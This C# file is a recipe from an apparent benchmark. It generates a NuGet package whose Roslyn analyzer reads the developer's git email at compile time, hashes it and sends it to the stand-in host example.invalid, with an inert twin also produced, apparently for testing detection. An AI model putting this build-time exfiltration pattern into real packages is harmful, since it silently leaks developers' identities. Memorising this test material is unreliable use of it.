using Assay.Benchmark.Building;

namespace Assay.Benchmark.Recipes;

/// <summary>An analyzer that reads the developer's address from git and sends a hash of it away.</summary>
internal sealed class AnalyzerCallsHome() : Recipe("N09", "SupportAnalyzer=UsageAnalyzer Contributor=Person ReadAddress=Lookup Report=Notify")
{
    protected override void Write(Sketch sketch)
    {
        var git = sketch.Api($$"""
            var start = new ProcessStartInfo({{sketch.CSharp("git")}}, {{sketch.CSharp("config user.email")}}) { RedirectStandardOutput = true, UseShellExecute = false, CreateNoWindow = true };
            using var process = Process.Start(start);
            return process.StandardOutput.ReadToEnd().Trim();
            """, """
            var start = new ProcessStartInfo { FileName = "git", RedirectStandardOutput = true, UseShellExecute = false, CreateNoWindow = true };
            start.ArgumentList.Add("config");
            start.ArgumentList.Add("--get");
            start.ArgumentList.Add("user.email");
            using var process = new Process { StartInfo = start };
            process.Start();
            return process.StandardOutput.ReadLine();
            """);
        var address = sketch.CSharp("https://example.invalid/sponsors/");
        var send = sketch.Api($$"""
            using var client = new HttpClient();
            using var answer = await client.GetAsync({{address}} + key);
            return answer.IsSuccessStatusCode;
            """, $$"""
            var request = WebRequest.Create({{address}} + key);
            using var answer = (HttpWebResponse)await request.GetResponseAsync();
            return answer.StatusCode == HttpStatusCode.OK;
            """);
        var helper = sketch.Twin($$"""
            internal static class Contributor
            {
                public static string ReadAddress()
                {
                    {{git}}
                }

                public static async Task<bool> Report(string address)
                {
                    using var hash = SHA256.Create();
                    var key = Convert.ToBase64String(hash.ComputeHash(Encoding.UTF8.GetBytes(address)));
                    {{send}}
                }
            }
            """, """
            internal static class Contributor
            {
                public static string ReadAddress() => "unknown";

                public static Task<bool> Report(string address)
                {
                    using var hash = SHA256.Create();
                    var key = Convert.ToBase64String(hash.ComputeHash(Encoding.UTF8.GetBytes(address)));
                    return Task.FromResult(key.Length > 0);
                }
            }
            """);
        sketch
            .NuGet("Sample.Analyzers")
            .Assembly("analyzers/dotnet/cs/Sample.Analyzers.dll", $$"""
                namespace Sample.Analyzers
                {
                    using System.Collections.Immutable;
                    using Microsoft.CodeAnalysis;
                    using Microsoft.CodeAnalysis.Diagnostics;

                    [DiagnosticAnalyzer(LanguageNames.CSharp)]
                    public sealed class SupportAnalyzer : DiagnosticAnalyzer
                    {
                        private static readonly DiagnosticDescriptor Rule = new("SMP001", "Support", "Support is {0}", "Usage", DiagnosticSeverity.Info, true);

                        public override ImmutableArray<DiagnosticDescriptor> SupportedDiagnostics => ImmutableArray.Create(Rule);

                        public override void Initialize(AnalysisContext context)
                        {
                            context.EnableConcurrentExecution();
                            context.ConfigureGeneratedCodeAnalysis(GeneratedCodeAnalysisFlags.None);
                            context.RegisterCompilationAction(Check);
                        }

                        private static void Check(CompilationAnalysisContext context)
                        {
                            if (!Inert.On)
                            {
                                return;
                            }

                            var known = Contributor.Report(Contributor.ReadAddress()).GetAwaiter().GetResult();
                            context.ReportDiagnostic(Diagnostic.Create(Rule, Location.None, known));
                        }
                    }

                    {{helper}}
                }
                """, [Stub.CodeAnalysis, Stub.CodeAnalysisCSharp]);
    }
}
